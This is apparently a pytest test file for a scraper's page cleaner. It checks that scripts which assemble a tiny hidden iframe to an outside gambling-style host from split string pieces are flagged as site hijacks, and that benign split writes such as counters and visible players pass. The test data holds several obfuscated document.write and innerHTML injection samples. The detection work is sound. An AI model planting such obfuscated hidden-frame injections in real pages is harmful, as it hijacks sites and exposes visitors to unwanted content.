"""Markup a script assembles from pieces is read as the browser gets it (v48 B1).

A writer whose tag is split across string literals ("<"+'if'+'ra'+"me …", ['<ifr','ame …'].join(''),
a piece kept in a variable, concat, template literals) writes the same frame as one written whole:
the page that writes a 1x2 frame to a host nothing else of it names is flagged however the string
is spelt. The old idiom of splitting "</scr"+"ipt>" for the site's own file, or a visible player
frame written in pieces, stays clean."""
from __future__ import annotations

import pytest

from scraper.clean import clean_page
from tests.clean.conftest import load

URL = "https://wgy.hcxy.edu.cn/info/1032/1222.htm"
FRAME = 'ame src="http://bankroll-tv.cn/" width="1" height="2"></ifr'


def _page(name: str, **parts: str) -> bytes:
    html = load(name).decode("utf-8")
    for marker, markup in parts.items():
        html = html.replace(f"<!--{marker}-->", markup)
    return html.encode("utf-8")


def _writer(code: str) -> bytes:
    return _page("split-writer-page.html", WRITER=f"<script>{code}</script>")


SPLIT_WRITERS = [
    # quotes of both kinds, empty pieces between them, the attribute split mid-word (the v48 kit)
    """document.write("<"+'if'+''+'ra'+''+"me"+' sr'+"c=\\"ht"+'tp:'+''+"//bank"+'roll-tv'+".cn/\\" wid"+''+"th=1 h"
    +"eigh"+'t=2></i'+''+"fra"+'me>');""",
    # an array of pieces joined
    f"""document.write(['<ifr', '{FRAME}', 'ame>'].join(''));""",
    # the tag's opening kept in a variable
    f"""var open = '<ifr'; document.write(open + '{FRAME}' + 'ame>');""",
    # String.prototype.concat of the pieces
    f"""document.write('<ifr'.concat('{FRAME}', 'ame>'));""",
    # template literals joined, into a box's innerHTML
    f"""document.getElementById('main').innerHTML += `<ifr` + `{FRAME}` + `ame>`;""",
]


@pytest.mark.parametrize("code", SPLIT_WRITERS)
def test_a_frame_written_from_pieces_is_read_as_the_frame_it_writes(code):
    a = clean_page(_writer(code), url=URL)
    assert a.hijacked, a.findings
    assert any("bankroll-tv.cn" in f.evidence or "frame" in f.where for f in a.findings), a.findings
    assert "开学典礼" in a.text


def test_the_same_frame_written_whole_is_flagged_alike():
    a = clean_page(_writer(f"document.write('<ifr{FRAME}ame>');"), url=URL)
    assert a.hijacked, a.findings


@pytest.mark.parametrize("code", [
    # the old idiom that keeps "</script>" out of the enclosing script: the site's own counter
    """document.write('<scr'+'ipt src="/js/counter.js?id=1222"></scr'+'ipt>');""",
    # a player frame of a size anybody sees, written in pieces
    """document.write('<ifr'+'ame src="https://player.video-cloud.com/embed/8812" width="640" height="360"></ifr'+'ame>');""",
    # an ad tag's frame whose address a variable holds: the markup's pieces join, the value stays code
    """var u = 'https://ads.adnet-cdn.com/px?s=4471'; document.write('<ifr'+'ame src="' + u + '" width="1" height="1"></ifr'+'ame>');""",
    # a string that only reads like a tag in pieces, never written
    """var hint = '<' + 'b>' + '加粗'; console.log(hint);""",
])
def test_pieces_that_write_a_sites_own_or_visible_markup_flag_nothing(code):
    a = clean_page(_writer(code), url=URL)
    assert not a.hijacked, a.findings
    assert a.findings == []
